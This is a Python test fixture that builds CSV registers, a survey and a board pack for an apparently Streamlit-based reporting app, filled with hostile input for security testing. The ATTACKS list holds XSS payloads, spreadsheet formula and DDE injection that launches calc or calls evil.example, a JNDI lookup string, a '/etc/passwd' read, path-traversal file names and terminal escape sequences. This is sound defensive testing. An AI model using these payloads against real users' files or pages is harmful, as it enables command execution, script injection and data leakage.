"""What would somebody write into a spreadsheet to attack whoever reads it? Every register and a survey, full of it.

Each text tries several ways at once and begins with another one, since texts are shortened where they stand. What
runs, loads or turns up from them can be told by `evil.example` and by the tags.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator

from lsn_data import published
from lsn_data.board import NAMES, Pick, drawing
from lsn_data.board.editions import freeze
from lsn_data.board.kept import begun, pack_name
from lsn_data.board.pack import Entry, Pack, noted, worded
from lsn_data.intake import read_register, read_survey
from lsn_data.sheets.declared import Field, Sheet
from lsn_data.sheets.registers import REGISTERS
from lsn_data.store import Store, save

HOST = "evil.example"
ATTACKS = (
    f"<img src=http://{HOST}/a.png onerror=alert(1)>",
    f"![p](http://{HOST}/b.png)",
    f"[link](http://{HOST}/c)",
    f'<a href="javascript:alert(2)">a</a> <a href="http://{HOST}/d">b</a>',
    ":material/delete: :smile: :red[red] :blue-badge[b]",
    "$x^2$ $$\\frac{1}{2}$$ \\(y\\)",
    f"<script>alert(3)</script><svg onload=alert(4)><iframe src=http://{HOST}/e>",
    f"http://{HOST}/f www.{HOST} mail@{HOST}",
    f'=HYPERLINK("http://{HOST}/g","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|'x'!A0",
    f"@SUM(1) =DDE('cmd','/C calc') =WEBSERVICE(\"http://{HOST}/h\")",
    "\u202eesrever\u202c \u200b\u200d\ufeff\u2066x\u2069",
    "**bold** _em_ ~~gone~~ `code` # head > quote | a | b |",
    '"><b onmouseover=alert(5)>x</b> \'"&lt;b&gt; &#x3c;i&#x3e;',
    "%{y} {name} {0} {{x}} %s %(x)s ${jndi:ldap://x}",
    "#image(\"/etc/passwd\") #read(\"x\") $ #link(\"http://evil.example\")[x] @label <tag> *b* _e_ \\",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07 \x9b31m line\r\nforged log line",
    "_x0041_ _x003D_1 ]]> <!-- --> &amp;",
    "W" * 180,
)  # fmt: skip
# What a page would hold if one of them came through: elements that people's text made, and marks that were rendered.
TRACES = ", ".join((
    *(f"[{name}*='{HOST}' i]" for name in ("src", "srcset", "data", "action", "style", "poster")),
    "body [href*='//']",
    *(f"[{name}]" for name in ("onerror", "onload", "onmouseover")), "[href^='javascript:' i]", "[href^='mailto:' i]",
    ".katex", ".stMarkdownColoredText", ".stMarkdownBadge", "[role=img][aria-label^=delete i]",
    "[data-testid=stMarkdownContainer] :is(del, em, code, blockquote, h1 a, img, li, table)",
))  # fmt: skip
MANY = 12


def texts() -> Iterator[str]:
    """Attack after attack, without an end: a few words that tell them apart, the attack, and the next one."""
    for number in itertools.count():
        first, second = ATTACKS[number % len(ATTACKS)], ATTACKS[(number * 7 + 3) % len(ATTACKS)]
        yield f"{first} {number} {second}"


def register(sheet: Sheet, many: int = MANY) -> bytes:
    """A CSV file of a register: valid where a value must be one of some, hostile everywhere else."""
    written, hostile = io.StringIO(), texts()
    rows = csv.writer(written)
    rows.writerow([field.name for field in sheet.fields])
    for number in range(many):
        rows.writerow([_cell(field, number, hostile) for field in sheet.fields])
    return written.getvalue().encode("utf-8", "surrogatepass")


def _cell(field: Field, number: int, hostile: Iterator[str]) -> str:
    if field.choices:
        return field.choices[number % len(field.choices)].code
    if field.name in ("left", "until", "end"):
        return ""
    if field.name == "strategy":
        return "lsn-2030" if number % 2 else next(hostile)
    if field.name in ("project", "part_of", "follows", "kpi", "story", "measure", "parent", "proposal"):
        return f"{ATTACKS[number % len(ATTACKS)]} {number}"  # so that registers refer to each other
    return {"number": str(5 + number), "when": str(2015 + number), "yes": "yes"}.get(field.holds) or next(hostile)


EDITION = ATTACKS[0]
WAVE = f"{ATTACKS[4]} 2026 {ATTACKS[1]}"
ANSWERS = 30


def survey() -> bytes:
    """A CSV file of a survey: item labels, groups, further questions and free texts are all hostile."""
    written, hostile = io.StringIO(), texts()
    rows = csv.writer(written)
    items = [next(hostile) for _ in range(7)]
    rows.writerow(["Organisation size", "Sector", *items, *(f"Question {next(hostile)}" for _ in range(3))])
    comments = [next(hostile) for _ in range(ANSWERS)]
    for number in range(ANSWERS):
        places = [str((place + number % 3) % 7 + 1) for place in range(7)]
        size = ("10-49", "1-9", "250+")[number % 3]
        sector = ("Biotech", ATTACKS[0], ATTACKS[4])[number % 3]
        choice = (ATTACKS[1], ATTACKS[5])[number % 2]
        rows.writerow([size, sector, *places, choice, str(number % 5 + 1), comments[number]])
    return written.getvalue().encode("utf-8")


def bring(store: Store, actor: str = ATTACKS[0]) -> None:
    """The published facts and all of it, as an office uploads it; file names and the wave's name are hostile too."""
    published.load(store)
    for kind, sheet in REGISTERS.items():
        reading = read_register(register(sheet), f"../{ATTACKS[6]}-{kind}.csv", kind)
        assert reading.status == "ready", (kind, reading.problems, reading.questions)
        save(store, reading, actor=actor)
    reading = read_survey(survey(), f"..\\{ATTACKS[1]}.csv")
    assert reading.status == "ready", (reading.problems, reading.questions)
    save(store, reading, wave=WAVE, asked=100, actor=actor)
    _bound(store, actor)


def _bound(store: Store, actor: str) -> None:
    """A board pack under a hostile name with many exhibits, hostile sections, sentences and notes; frozen too."""
    words, hostile = {"en": "", "de": ""}, texts()
    pack = Pack(pack_name(ATTACKS[1] + ATTACKS[5]))
    for name in NAMES[::6]:
        pack = pack.with_section({code: next(hostile) for code in words}).added(Pick(name))
        entry = pack.parts[-1]
        assert isinstance(entry, Entry)
        for code in words:
            entry = noted(worded(entry, code, next(hostile), "computed"), code, next(hostile))
        pack = pack.changed(len(pack.parts) - 1, entry)
    begun(store, pack, actor=actor)
    freeze(store, pack, EDITION, drawing(store), actor=actor)
